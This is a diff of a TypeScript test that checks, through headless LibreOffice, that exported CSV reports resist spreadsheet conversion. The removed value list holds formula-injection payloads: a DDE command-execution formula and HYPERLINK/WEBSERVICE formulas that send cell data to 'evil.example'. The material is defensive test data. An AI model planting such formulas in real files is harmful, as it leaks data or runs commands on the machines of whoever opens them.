@@ -9,10 +9,10 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { reportModel } from '../../lib/report/report-model.ts';
 import { reportTables } from '../../lib/report/report-tables.ts';
 import { tableCsv } from '../../lib/report/table-csv.ts';
-import { TABLE_IDS } from '../../lib/report/table.ts';
 import { HOSTILE } from '../report/hostile.ts';
+import { CONVERTED, PLAIN } from '../report/spreadsheet-names.ts';
 import { readCsv } from '../report/read-csv.ts';
-import { hostileSource, OPTIONS, smallSource } from '../support/inventories.ts';
+import { hostileSource, OPTIONS } from '../support/inventories.ts';
 
 /*
  * The CSV files in a real spreadsheet, which is told to convert all that it can (dates, formulas): opened, saved again,
@@ -28,48 +28,6 @@ if (isSkipped)
   );
 
 const IDS = ['123456', '123456789012', '123456789012345', '1234567890123456', '12345678901234567890'];
-const CONVERTED = [
-  ...['00123', '20241231235959', '3/4', '1E5', '1-2', '1,234', '1.5', '5%', '(7)', '0x1F', '1 1/2', '12:30'],
-  ...['2024-01-01', '2024-01-01 10:00', '2024-01-01T10:00:00Z', '01.02.2024', '1 Jan', '3月4日'],
-  ...['TRUE', 'false', 'wahr', 'VRAI', 'ИСТИНА', 'MAR1', 'SEPT1', 'DEC-2024', 'March 3', 'Jan 1, 2024'],
-  ...['März 5', '5. März', 'мая 5', 'juin 3', '3 décembre 2024', '星期三', '上午3:00', '令和6年1月1日'],
-  ...[
-    '$5',
-    '5 €',
-    'EUR 5',
-    'CHF 5',
-    'kr 5',
-    '5 kr',
-    '￥5',
-    'CNY5',
-    '１２３',
-    '＝1+1',
-    'ＴＲＵＥ',
-    '#N/A',
-    '#REF!',
-  ],
-  ...['=1+1', '+1', '-1', '@SUM(1)', '=cmd|calc!A1', "=DDE('soffice';'x';'y')", '  =1+1', '\t=1+1', '\r\n=1'],
-  ...[
-    "'00123",
-    "''1",
-    '"=1+1"',
-    'a,=1+1',
-    'a;=1+1',
-    "a;'=1+1",
-    'a\t=1',
-    'a\u0000b',
-    'a\r\n1',
-    ' 5 ',
-    '\uFEFF5',
-  ],
-  ...['=HYPERLINK("https://evil.example?x="&A1)', '=WEBSERVICE("https://evil.example")', '{=1+1}'],
-];
-/** They stay as they are: an apostrophe before each would be a nuisance. */
-const PLAIN = [
-  ...['prod-shop-db', 'database-3', 'backup 2024-01-01', 'Partner CI', 'Mail 5', 'march-of-servers 3'],
-  ...['生产备份2024年', '测试服务器1', 'Сервер 3', 'ap-southeast-1', 'cn-hangzhou', 'shop,2024', 'server; 5'],
-];
-
 /** The numbers are those of [MS-LCID]. */
 const LANGUAGES = {
   English: 1033,
@@ -115,7 +73,7 @@ describe.skipIf(isSkipped)('LibreOffice', { timeout: 180_000 }, () => {
     await promisify(execFile)(
       'soffice',
       [
-        pathToFileURL(join(folder, 'profile')).href.replace(/^/, '-env:UserInstallation='),
+        `-env:UserInstallation=${pathToFileURL(join(folder, 'profile')).href}`,
         '--headless',
         `--infilter=${open}`,
         '--convert-to',
@@ -170,18 +128,4 @@ describe.skipIf(isSkipped)('LibreOffice', { timeout: 180_000 }, () => {
     for (const kind of ['float', 'date', 'boolean', 'percentage'])
       expect(sheet).toContain(`office:value-type="${kind}"`);
   });
-});
-
-it('an ordinary name or region has no apostrophe', () => {
-  const { columns, rows } = reportTables(reportModel(hostileSource(...PLAIN), OPTIONS)).shares;
-  const at = columns.findIndex(({ label }) => label === 'Image');
-  const lines = readCsv(tableCsv({ id: 'shares', columns, rows }));
-  expect(new Set(lines.slice(1).map((line) => line[at]))).toEqual(new Set(PLAIN));
-  for (const id of TABLE_IDS) {
-    const table = reportTables(reportModel(smallSource(), OPTIONS))[id];
-    const badges = readCsv(tableCsv(table)).flatMap((line) =>
-      line.filter((_text, n) => table.columns[n]?.kind === 'badge'),
-    );
-    expect(badges.filter((text) => text.startsWith("'"))).toEqual([]);
-  }
 });
